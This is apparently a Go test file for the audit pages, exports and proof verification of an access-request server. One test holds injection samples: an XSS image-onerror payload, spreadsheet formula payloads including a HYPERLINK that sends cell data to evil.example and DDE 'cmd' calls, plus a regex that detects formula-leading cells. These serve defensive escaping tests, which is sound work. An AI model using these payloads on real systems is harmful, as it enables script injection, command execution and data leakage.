package server

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"ramp.dev/ramp/access"
	"ramp.dev/ramp/client"
	"ramp.dev/ramp/evidence"
	"ramp.dev/ramp/ledger"
)

// browse loads a page as a browser does.
func (f *fixture) browse(who, path string) *httptest.ResponseRecorder {
	return f.callWith(f.token(who), "GET", path, "", "", "Accept", "text/html")
}

func TestAuditPage(t *testing.T) {
	f := newFixture(t)
	ended, denied := f.request(access.StateEnded), f.request(access.StateDenied)
	page := func(path string) string {
		w := f.browse("carol", path)
		require.Equal(t, http.StatusOK, w.Code, "%s", w.Body)
		return w.Body.String()
	}
	all := page("/audit")
	require.Contains(t, all, `aria-current="page">Audit</a>`)
	for _, r := range []access.Request{ended, denied} {
		require.Contains(t, all, `href="/audit/requests/`+r.ID+`"`)
	}
	found := page("/audit?outcome=denied&person=ALICE&contract=ssh-demo&since=2026-01-01T00:00")
	require.Contains(t, found, denied.ID)
	require.NotContains(t, found, ended.ID)
	require.Contains(t, found, `value="2026-01-01T00:00"`)
	require.Contains(t, found, `since=2026-01-01T00%3A00%3A00Z&amp;format=csv"`)
	require.Contains(t, page("/audit?person=nobody"), "No request is like that")
	require.Contains(t, page("/audit?since=yesterday"), "Nothing was searched for")
	require.Contains(t, page("/audit?outcome=vanished"), "Nothing was searched for")

	events := page("/audit?show=events&request=" + ended.ID)
	require.Contains(t, events, `data-is="kind">request.created</code>`)
	require.NotContains(t, events, denied.ID)
	require.Contains(t, page("/audit?show=events&actor=nobody"), "Nothing that was recorded is like that")

	one := page("/audit/requests/" + ended.ID)
	for _, fact := range []string{"for a request that is ended", "alice", "ssh-demo", `data-leaf="0"`, "Nothing on this page has been verified"} {
		require.Contains(t, one, fact)
	}
	require.NotContains(t, one, "✓", "the server says nothing in the browser's place")
	require.Equal(t, http.StatusNotFound, f.browse("carol", "/audit/requests/0123456789abcdef").Code)
	for _, who := range []string{"oscar", "alice"} {
		require.NotContains(t, f.browse(who, "/").Body.String(), `href="/audit"`, who)
		require.Equal(t, http.StatusForbidden, f.browse(who, "/audit/requests/"+ended.ID).Code, who)
	}
	refused, _, err := f.ledger.SearchEvents(context.Background(), ledger.EventSearch{Kind: access.EventActRefused})
	require.NoError(t, err)
	require.NotEmpty(t, refused, "who tried is recorded")
}

// TestAuditPagesGoOn: the cursor of a page leads through everything, once.
func TestAuditPagesGoOn(t *testing.T) {
	f := newFixture(t)
	for range 120 {
		require.NoError(t, f.ledger.AppendEvent(context.Background(), access.Event{At: time.Now(), Kind: access.EventActRefused, Actor: "dave"}))
	}
	seen, path := 0, "/audit?show=events&actor=dave"
	for pages := 0; path != ""; pages++ {
		require.Less(t, pages, 4)
		body := f.browse("carol", path).Body.String()
		seen += strings.Count(body, "<tr data-leaf=")
		_, rest, more := strings.Cut(body, `<p class="more"><a href="`)
		next, _, _ := strings.Cut(rest, `"`)
		if path = ""; more {
			path = strings.ReplaceAll(next, "&amp;", "&")
		}
	}
	require.Equal(t, 120, seen)
}

// TestCase126AuditorsSeeWhatPeopleWrote: a reason is text: on a page it is no markup, in a
// spreadsheet no formula, in JSON what it is.
func TestCase126AuditorsSeeWhatPeopleWrote(t *testing.T) {
	f := newFixture(t)
	const markup = `<img src=x onerror=alert(1)>`
	for _, reason := range []string{`=HYPERLINK("https://evil.example/?"&A1,"details of the incident")`, `+1+cmd|' /C calc'!A0 for the incident`, `-2+3+cmd for the incident`,
		`@SUM(1+1)*cmd for the incident`, "\t=1+1 for the incident of today", "\r=1+1 for the incident of today", ` =1+1 for the incident of today`, `＝1+1 for the incident of today`,
		`look at the queue;=cmd|' /C calc'!A0;done`, `look at the queue; "=1+1";done`, "\u00a0=1+1 for the incident", markup + " for the incident"} {
		require.NoError(t, f.ledger.AppendEvent(context.Background(), access.Event{At: time.Now(), Kind: access.EventActRefused, Actor: reason, Message: reason, Detail: map[string]string{"act": reason}}))
		b, err := json.Marshal(map[string]string{"contract": "ssh-demo", "duration": "30m", "reason": reason})
		require.NoError(t, err)
		w := f.call(f.token("alice"), "POST", "/api/v1/requests", jsonType, string(b))
		require.Equal(t, http.StatusCreated, w.Code, "%s", w.Body)
		var r access.Request
		require.NoError(t, json.Unmarshal(w.Body.Bytes(), &r))
		require.NotContains(t, f.browse("carol", "/audit/requests/"+r.ID).Body.String(), "<img src=x")
	}
	for _, path := range []string{"/audit", "/audit?show=events", "/audit?person=" + "%3Cimg+src%3Dx%3E", "/audit?show=events&kind=%22%3E%3Cimg+src%3Dx%3E"} {
		require.NotContains(t, f.browse("carol", path).Body.String(), "<img src=x", path)
	}
	for _, path := range []string{"/api/v1/audit/export", "/api/v1/audit/requests/export"} {
		w := f.call(f.token("carol"), "GET", path, "", "")
		require.Equal(t, http.StatusOK, w.Code)
		require.Contains(t, w.Header().Get("Content-Disposition"), "attachment")
		for _, separator := range ",;" { // the second in countries where the first is in numbers
			r := csv.NewReader(strings.NewReader(w.Body.String()))
			r.Comma, r.FieldsPerRecord, r.LazyQuotes = separator, -1, true
			rows, err := r.ReadAll()
			require.NoError(t, err)
			require.Greater(t, len(rows), 9)
			for _, row := range rows {
				for _, cell := range row {
					require.NotRegexp(t, `^[\s\p{Z}"]*[=+\-@＝＋－＠]|^[\t\r\n]`, cell)
				}
			}
		}
		w = f.call(f.token("carol"), "GET", path+"?format=json", "", "")
		require.Contains(t, w.Body.String(), `"=HYPERLINK(`, "JSON has the text itself")
		require.Equal(t, http.StatusBadRequest, f.call(f.token("carol"), "GET", path+"?format=xlsx", "", "").Code)
	}
}

// TestProofsAreVerified verifies what a search found as the command line does.
func TestProofsAreVerified(t *testing.T) {
	f := newFixture(t)
	r := f.request(access.StateActive)
	web := httptest.NewServer(f.handler)
	defer web.Close()
	auditor := client.New(web.URL, f.token("carol"))
	page, err := auditor.SearchEvents(t.Context(), client.EventQuery{Request: r.ID})
	require.NoError(t, err)
	var leaves []int64
	for _, e := range page.Items {
		leaves = append(leaves, e.Leaf)
	}
	proofs, err := auditor.Proofs(t.Context(), leaves...)
	require.NoError(t, err)
	_, err = proofs.Verify(evidence.NewKeyring(f.signer.Public()))
	require.NoError(t, err)
	require.Len(t, proofs.Items, len(leaves))
	found, err := auditor.SearchRequests(t.Context(), client.RequestQuery{Person: "alice", Outcome: "active", Since: time.Now().Add(-time.Hour)})
	require.NoError(t, err)
	require.Equal(t, r.ID, found.Items[0].ID)
	require.Equal(t, http.StatusBadRequest, f.call(f.token("carol"), "GET", "/api/v1/audit/proofs?leaf=x", "", "").Code)
}
